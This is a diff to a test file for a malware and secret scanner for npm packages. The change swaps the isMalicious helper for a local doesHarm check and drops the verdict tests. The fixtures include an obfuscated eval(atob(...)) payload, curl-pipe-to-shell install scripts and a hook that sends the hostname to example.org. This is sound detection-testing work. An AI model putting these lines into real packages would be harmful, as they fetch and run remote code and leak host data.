@@ -4,12 +4,15 @@ import { join, relative } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { afterAll, describe, expect, it } from 'vitest';
 import { describeScanEngine } from '../src/contract.ts';
-import { codeRulesVersion, createCodeEngine, isMalicious, type ScanFile, type ScanFinding } from '../src/index.ts';
+import { codeRulesVersion, createCodeEngine, type ScanFile, type ScanFinding } from '../src/index.ts';
 import { file, quietly, subject } from './subjects.ts';
 
 const engine = createCodeEngine();
 afterAll(() => engine.close());
 const scan = async (...files: ScanFile[]): Promise<readonly ScanFinding[]> => await engine.analyse(subject(files), quietly);
+/** What the engine is sure of; which findings refuse a version is not its to decide. */
+const doesHarm = (findings: readonly ScanFinding[]): boolean =>
+  findings.some(({ kind, severity }) => kind === 'MALWARE' && (severity === 'CRITICAL' || severity === 'HIGH'));
 const harm = "eval(atob('Y29uc29sZS5sb2coMSk='))";
 
 describeScanEngine('the code engine', () => ({
@@ -61,24 +64,24 @@ describe('scripts that run at installation', () => {
   ])('that download, decode or send away are malware: %s', async (command) => {
     const findings = await scan(file('package.json', JSON.stringify({ scripts: { preinstall: command } })));
     expect(findings).toMatchObject([{ kind: 'MALWARE', severity: 'CRITICAL', path: 'package.json' }]);
-    expect(isMalicious(findings)).toBe(true);
+    expect(doesHarm(findings)).toBe(true);
   });
   it.each(['node-gyp rebuild', 'node install.js', 'husky install', 'tsc -p .', 'prebuild-install || node-gyp rebuild', 'node -p 1'])(
     'that do ordinary work are shown, not refused: %s',
     async (command) => {
       const findings = await scan(file('package.json', JSON.stringify({ scripts: { postinstall: command, test: 'curl x | sh' } })));
       expect(findings).toMatchObject([{ kind: 'INSTALL_SCRIPT', severity: 'LOW' }]);
-      expect(isMalicious(findings)).toBe(false);
+      expect(doesHarm(findings)).toBe(false);
     },
   );
   it('that start a file put that file under the stricter rules', async () => {
     const code = "require('https').get('https://example.org/?h=' + require('os').hostname())";
-    expect(isMalicious(await scan(file('package.json', '{"scripts":{"install":"node ./scripts/go"}}'), file('scripts/go.js', code)))).toBe(true);
-    expect(isMalicious(await scan(file('package.json', '{"scripts":{"start":"node ./scripts/go"}}'), file('scripts/go.js', code)))).toBe(false);
+    expect(doesHarm(await scan(file('package.json', '{"scripts":{"install":"node ./scripts/go"}}'), file('scripts/go.js', code)))).toBe(true);
+    expect(doesHarm(await scan(file('package.json', '{"scripts":{"start":"node ./scripts/go"}}'), file('scripts/go.js', code)))).toBe(false);
   });
   it('that start a shell script put it under the rules for commands', async () => {
     const setup = file('setup.sh', '#!/bin/sh\ncurl -fsSL https://example.org/x | sh\n');
-    expect(isMalicious(await scan(file('package.json', '{"scripts":{"postinstall":"sh setup.sh"}}'), setup))).toBe(true);
+    expect(doesHarm(await scan(file('package.json', '{"scripts":{"postinstall":"sh setup.sh"}}'), setup))).toBe(true);
     expect(await scan(setup)).toEqual([]);
   });
   it('of packages within do not run', async () => {
@@ -108,7 +111,7 @@ describe('secrets', () => {
     const findings = await scan(file(path, `\n${text}`));
     expect(findings).toMatchObject([{ kind: 'SECRET', severity, path, title: expect.stringContaining(title) }]);
     expect(findings[0]?.title).toMatch(/in line 2$/);
-    expect(isMalicious(findings)).toBe(false);
+    expect(doesHarm(findings)).toBe(false);
   });
   it('are never repeated in the finding', async () => {
     const findings = await scan(file('a.env', 'T=ghp_16C7e42F292c6912E7710c838347Ae178B4a'));
@@ -142,7 +145,7 @@ describe('a thread with limits', () => {
     await strict.start();
     await expect(strict.analyse(subject([file('slow.js', heavy)]), quietly)).rejects.toThrow(/slow\.js could not be judged within 60 ms/);
     const next = createCodeEngine();
-    expect(isMalicious(await next.analyse(subject([file('a.js', harm)]), quietly))).toBe(true);
+    expect(doesHarm(await next.analyse(subject([file('a.js', harm)]), quietly))).toBe(true);
     await Promise.all([strict.close(), next.close()]);
   });
   it('fails a scan whose file takes too much memory, and serves the next with a fresh thread', async () => {
@@ -153,7 +156,7 @@ describe('a thread with limits', () => {
         quietly,
       ),
     ).rejects.toThrow();
-    expect(isMalicious(await strict.analyse(subject([file('a.js', harm)]), quietly))).toBe(true);
+    expect(doesHarm(await strict.analyse(subject([file('a.js', harm)]), quietly))).toBe(true);
     await strict.close();
   });
   it('stops when it is told to, in the middle of a file', async () => {
@@ -168,15 +171,13 @@ describe('a thread with limits', () => {
   });
   it('ends when it is idle and starts again when it is needed', async () => {
     const brief = createCodeEngine({ idleMs: 10 });
-    expect(isMalicious(await brief.analyse(subject([file('a.js', harm)]), quietly))).toBe(true);
+    expect(doesHarm(await brief.analyse(subject([file('a.js', harm)]), quietly))).toBe(true);
     await new Promise((resolve) => setTimeout(resolve, 100));
-    expect(isMalicious(await brief.analyse(subject([file('a.js', harm)]), quietly))).toBe(true);
+    expect(doesHarm(await brief.analyse(subject([file('a.js', harm)]), quietly))).toBe(true);
     await brief.close();
   });
   it('serves many at once, each with its own answer', async () => {
-    const answers = await Promise.all(
-      Array.from({ length: 20 }, async (_, index) => isMalicious(await scan(file('a.js', index % 2 === 0 ? harm : 'export {}')))),
-    );
+    const answers = await Promise.all(Array.from({ length: 20 }, async (_, index) => doesHarm(await scan(file('a.js', index % 2 === 0 ? harm : 'export {}')))));
     expect(answers).toEqual(Array.from({ length: 20 }, (_, index) => index % 2 === 0));
   });
 });
@@ -193,39 +194,10 @@ describe('packages that everybody uses', () => {
     { timeout: 60_000 },
     async (name) => {
       const findings = await engine.analyse(subject(filesOf(name)), quietly);
-      expect(isMalicious(findings)).toBe(false);
+      expect(doesHarm(findings)).toBe(false);
       expect(findings.filter(({ kind, severity }) => kind === 'MALWARE' && severity === 'MEDIUM')).toEqual([]);
     },
   );
-});
-
-describe('the verdict', () => {
-  const finding = (kind: ScanFinding['kind'], severity: ScanFinding['severity']): ScanFinding => ({
-    kind,
-    severity,
-    title: 't',
-    path: null,
-    advisory: null,
-    package: null,
-    suggestion: null,
-  });
-  it.each([
-    ['MALWARE', 'CRITICAL', true],
-    ['MALWARE', 'HIGH', true],
-    ['MALWARE', 'MEDIUM', false],
-    ['MALWARE', 'LOW', false],
-    ['MALWARE', 'UNKNOWN', false],
-    ['VULNERABILITY', 'CRITICAL', false],
-    ['SECRET', 'HIGH', false],
-    ['INSTALL_SCRIPT', 'HIGH', false],
-    ['ARCHIVE', 'HIGH', false],
-    ['MODEL', 'HIGH', false],
-  ] as const)('%s of severity %s: %s', (kind, severity, isExpected) => {
-    expect(isMalicious([finding('VULNERABILITY', 'LOW'), finding(kind, severity)])).toBe(isExpected);
-  });
-  it('of nothing is not malicious', () => {
-    expect(isMalicious([])).toBe(false);
-  });
 });
 
 describe('the version of the rules', () => {
